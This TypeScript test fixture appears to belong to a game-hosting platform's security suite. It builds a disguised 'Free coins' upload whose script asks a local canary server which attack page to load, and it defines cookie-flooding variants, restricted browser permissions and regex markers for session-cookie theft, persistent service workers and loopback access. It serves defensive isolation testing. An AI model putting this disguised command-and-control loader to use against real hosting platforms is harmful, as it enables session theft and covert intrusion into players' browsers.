import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { cookieFlood, type EvilName, type EvilOptions, evilBuild, evilNames } from '../fixtures/evil.ts';
import type { FixtureEntry } from '../fixtures/tree.ts';

/** Whoever made the evil build: what is uploaded, and the server that it asks what to do. */

/** What is planted in everybody's cookies by each, from the plain to the one that ranks highest with the browser. */
export const floods = {
  T03: '',
  'T03-secure': '; Secure',
  'T03-high': '; Secure; Priority=High',
};

/** What Flux lets no game ask people for. */
const features = [
  'camera',
  'microphone',
  'geolocation',
  'payment',
  'usb',
  'serial',
  'hid',
  'midi',
  'display-capture',
  'clipboard-read',
  'publickey-credentials-get',
  'publickey-credentials-create',
  'identity-credentials-get',
];

/** Attacks whose success the page itself can tell, with what each gets hold of where nothing is defended. */
export const selfTold = {
  T01: [/"user":/, /session=secret/, /^the page of Flux$/, /^signed out$/],
  T02: [/^a service worker that stays$/, /^an answer of its worker$/],
  T06: [/^saves of another game: .*idbfs/],
  T07: [/^camera$/, /^microphone$/, ...features.map((name) => new RegExp(`^may ask for ${name}$`))],
  T09: [/^an answer from home$/, /^a picture from home$/, /^may reach loopback-network$/],
} satisfies Partial<Record<EvilName, RegExp[]>>;

/**
 * One build with every attack in it, each a page of its own beside the first, which takes the place of the first as soon
 * as the maker's server has named it. So one upload is enough for all, and looks like a game that does nothing.
 */
export function buildOfAll(options: EvilOptions): FixtureEntry[] {
  const attacks = evilNames.flatMap((name) => underName(name, evilBuild(name, options)));
  const planted = Object.entries(floods).flatMap(([name, kind]) => underName(name, cookieFlood(kind)));
  return [{ name: 'index.html', data: firstPage(options.canary) }, ...attacks, ...planted];
}

function underName(name: string, files: FixtureEntry[]): FixtureEntry[] {
  return files.map((file) => (file.name === 'index.html' ? { ...file, name: `${name}.html` } : file));
}

/** Written over itself, the page keeps its address and where it was called from, which some attacks are about. */
function firstPage(maker: string): string {
  return `<!doctype html>
<html lang="en">
<meta charset="utf-8">
<title>Free coins</title>
<script>
(async () => {
  const attack = await (await fetch('${maker}${orderPath}')).text();
  if (attack === '') return;
  const page = await (await fetch(attack + '.html')).text();
  window.attack = attack;
  document.open();
  document.write(page);
  document.close();
})();
</script>
</html>
`;
}

const orderPath = '/order';

export interface Canary {
  url: string;
  /** The `Referer` of each request so far, but for those of a build that asks for its order. */
  referers: string[];
  /** What the builds that ask next will try, one each; nothing where there is none. */
  orders: string[];
  close(): void;
}

/** Somebody else's server, which writes down where requests say they come from. */
export async function startCanary(): Promise<Canary> {
  const referers: string[] = [];
  const orders: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === orderPath) {
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('cache-control', 'no-store');
      return response.end(orders.shift() ?? '');
    }
    referers.push(request.headers.referer ?? '');
    response.setHeader('content-type', 'image/svg+xml');
    response.end('<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, referers, orders, close: () => void server.close() };
}
